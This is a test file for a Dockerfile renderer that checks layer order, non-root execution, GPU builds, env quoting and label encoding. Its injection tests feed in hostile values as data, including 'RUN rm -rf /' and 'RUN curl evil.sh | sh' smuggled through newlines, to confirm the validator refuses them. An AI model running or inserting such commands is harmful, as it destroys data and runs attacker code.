import {mkdtemp, readFile, rm, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import path from 'node:path'
import {pathToFileURL} from 'node:url'

import Handlebars from 'handlebars'
import {describe, expect, it} from 'vitest'

import {MlshipError} from '../errors.js'
import {
  type DockerfileValues,
  dockerfileTemplatePath,
  dockerfileValueProblems,
  encodeLabels,
  precompiledTemplateModule,
  renderDockerfile,
} from './dockerfile.js'

const base: DockerfileValues = {
  baseImage: 'node:20-bookworm-slim',
  env: {},
  gpu: false,
  labels: {'org.opencontainers.image.title': 'iris'},
  mlshipVersion: '0.1.0',
  name: 'iris',
  platform: 'linux/amd64',
  port: 8080,
  version: '1.0.0',
}

/** The Dockerfile's instructions: continuation lines joined and comments dropped, as the engine's parser does. */
function instructions(dockerfile: string): string[] {
  const lines: string[] = []
  let pending = ''
  for (const raw of dockerfile.split('\n')) {
    if (/^\s*#/.test(raw)) continue
    const line = pending ? raw.trimStart() : raw
    if (/\\[ \t]*$/.test(line)) {
      pending += line.replace(/\\[ \t]*$/, '')
      continue
    }
    const whole = pending + line
    pending = ''
    if (whole.trim()) lines.push(whole)
  }
  return lines
}

/** Reads the value of one key="value" pair the way the Dockerfile parser unquotes it. */
function labelValue(label: string, key: string): string {
  const start = label.indexOf(`${key}="`) + key.length + 2
  let out = ''
  for (let i = start; i < label.length; i++) {
    const c = label[i]!
    if (c === '\\' && ['"', '$', '\\'].includes(label[i + 1]!)) {
      out += label[++i]
      continue
    }
    if (c === '"') return out
    out += c
  }
  throw new Error('unterminated value')
}

describe('renderDockerfile', () => {
  it('orders the layers runtime, server, model, model.yaml and runs as a non-root user with a node healthcheck', async () => {
    const steps = instructions(await renderDockerfile(base))
    expect(steps[0]).toBe('FROM node:20-bookworm-slim')
    const copies = steps.filter((s) => s.startsWith('COPY'))
    expect(copies).toEqual([
      // The server's writable folder (MLSHIP_DATA_DIR, a volume): its user's, unlike everything else.
      'COPY --chown=1000:1000 data/ /var/lib/mlship/',
      'COPY runtime/node_modules/ /app/node_modules/',
      'COPY runtime/server/ /app/server/',
      'COPY model/ /app/model/',
      'COPY config/ /app/model/',
    ])
    expect(steps).toContain('USER 1000:1000')
    expect(steps.find((s) => s.startsWith('HEALTHCHECK'))).toMatch(/CMD \["node", "\/app\/server\/healthcheck.cjs"\]$/)
    expect(steps).toContain('CMD ["node", "/app/server/server.cjs"]')
    expect(steps.some((s) => /^RUN\b/.test(s))).toBe(false)
    expect(steps.find((s) => s.startsWith('ENV'))).toContain('MLSHIP_DEVICE=cpu')
    expect(steps.find((s) => s.startsWith('ENV'))).toContain(' MLSHIP_DATA_DIR=/var/lib/mlship ')
    expect(steps).toContain('VOLUME /var/lib/mlship')
    // onnxruntime's telemetry uploader stays off in the image.
    expect(steps.find((s) => s.startsWith('ENV'))).toMatch(/ ORT_DISABLE_TELEMETRY=1( |$)/)
  })

  it("writes V8's code cache with the image's own node, as root, between the server and the model layers, when asked", async () => {
    const steps = instructions(await renderDockerfile({...base, codeCache: true}))
    const run = steps.indexOf('RUN ["node", "/app/server/write-code-cache.js"]')
    expect(steps.slice(run - 2, run + 3)).toEqual([
      'COPY runtime/server/ /app/server/',
      'USER 0:0',
      'RUN ["node", "/app/server/write-code-cache.js"]',
      'USER 1000:1000',
      'COPY model/ /app/model/',
    ])
    expect(steps.filter((s) => /^RUN\b/.test(s))).toHaveLength(1)
    // The server still runs as its own user.
    expect(steps.filter((s) => s.startsWith('USER')).at(-1)).toBe('USER 1000:1000')
  })

  it('renders the GPU variant: node copied from the Node.js image onto the CUDA base, CUDA required', async () => {
    const dockerfile = await renderDockerfile({
      ...base,
      baseImage: 'nvidia/cuda:12.6.3-cudnn-runtime-ubuntu24.04',
      gpu: true,
      nodeImage: 'node:20-bookworm-slim',
    })
    const steps = instructions(dockerfile)
    expect(steps.slice(0, 3)).toEqual([
      'FROM node:20-bookworm-slim AS node',
      'FROM nvidia/cuda:12.6.3-cudnn-runtime-ubuntu24.04',
      'COPY --from=node /usr/local/bin/node /usr/local/bin/node',
    ])
    expect(steps.find((s) => s.startsWith('ENV'))).toContain('MLSHIP_DEVICE=cuda')
    expect(steps).toContain('USER 1000:1000')
  })

  it('writes build.env values quoted after the model layers', async () => {
    const steps = instructions(
      await renderDockerfile({...base, env: {LOG_FORMAT: 'json with spaces', OMP_NUM_THREADS: '1'}}),
    )
    const env = steps.findLast((s) => s.startsWith('ENV'))
    expect(env).toBe('ENV LOG_FORMAT="json with spaces" OMP_NUM_THREADS="1"')
    expect(steps.indexOf(env!)).toBeGreaterThan(steps.indexOf('COPY config/ /app/model/'))
  })

  it.each([
    ['a newline in an env value', {env: {EVIL: 'x\nRUN rm -rf /'}}, 'build.env.EVIL'],
    ['a quote in an env value', {env: {EVIL: 'x" && RUN echo "'}}, 'build.env.EVIL'],
    ['a variable in an env value', {env: {EVIL: '$HOME'}}, 'build.env.EVIL'],
    ['a bad env name', {env: {'A B': '1'}}, 'build.env.A B'],
    ['an env name mlship sets', {env: {PORT: '1'}}, 'build.env.PORT'],
    ['a newline in the base image', {baseImage: 'node:20\nRUN curl evil.sh | sh'}, 'build.base_image'],
    ['a space in the base image', {baseImage: 'node:20 AS x'}, 'build.base_image'],
    ['a bad platform', {platform: 'linux/s390x' as 'linux/amd64'}, 'build.platform'],
    ['a port out of range', {port: 70_000}, 'serving.port'],
  ])('refuses %s before rendering', async (_name, override, key) => {
    const values = {...base, ...override}
    expect(dockerfileValueProblems(values).map((p) => p.key)).toContain(key)
    const error = await renderDockerfile(values).catch((e: unknown) => e)
    expect(error).toBeInstanceOf(MlshipError)
    expect((error as MlshipError).exitCode).toBe(2)
    expect((error as MlshipError).message).toContain(`[${key}]`)
  })
})

describe('precompiledTemplateModule', () => {
  it('renders what the template compiled at run time renders, for CPU and GPU builds', async () => {
    const source = await readFile(dockerfileTemplatePath(), 'utf8')
    const dir = await mkdtemp(path.join(tmpdir(), 'mlship-precompiled-'))
    try {
      const file = path.join(dir, 'dockerfile-template.js')
      await writeFile(file, await precompiledTemplateModule(source))
      const module = (await import(pathToFileURL(file).href)) as {sourceSha256: string; spec: never}
      const precompiled = Handlebars.template(module.spec)
      const compiled = Handlebars.compile(source, {noEscape: true, strict: true})
      const context = {
        arch: 'x64',
        baseImage: 'node:20-bookworm-slim',
        device: 'cpu',
        env: [{name: 'LOG_FORMAT', value: 'json'}],
        gpu: false,
        labels: 'a="b"',
        mlshipVersion: '0.1.0',
        name: 'iris',
        nodeImage: '',
        platform: 'linux/amd64',
        port: 8080,
        variants: [] as string[],
        version: '1.0.0',
      }
      const gpu = {...context, device: 'cuda', env: [], gpu: true, nodeImage: 'node:20'}
      for (const values of [context, gpu, {...context, variants: ['candidate', 'quantised']}]) {
        expect(precompiled(values)).toBe(compiled(values))
      }
      expect(module.sourceSha256).toMatch(/^[0-9a-f]{64}$/)
    } finally {
      await rm(dir, {force: true, recursive: true})
    }
  })
})

describe('encodeLabels', () => {
  it('round-trips any text through the parser rules, on lines of bounded length', () => {
    const nasty = JSON.stringify({
      a: 'quote " dollar $HOME backslash \\ hash # end\\',
      b: 'x'.repeat(9000),
      c: ' # leading',
    })
    const long = `${'y'.repeat(1999)}\\"${' '.repeat(5)}#${'z'.repeat(4000)}`
    const encoded = encodeLabels({
      'dev.mlship.signature': nasty,
      'dev.mlship.other': long,
      'dev.mlship.newline': 'a\nLABEL b',
    })
    expect(Math.max(...encoded.split('\n').map((l) => l.length))).toBeLessThanOrEqual(2100)
    const [label] = instructions(`LABEL ${encoded}\n`)
    expect(labelValue(label!, 'dev.mlship.signature')).toBe(nasty)
    expect(labelValue(label!, 'dev.mlship.other')).toBe(long)
    expect(labelValue(label!, 'dev.mlship.newline')).toBe('a LABEL b')
    expect(instructions(`LABEL ${encoded}\n`)).toHaveLength(1)
  })
})
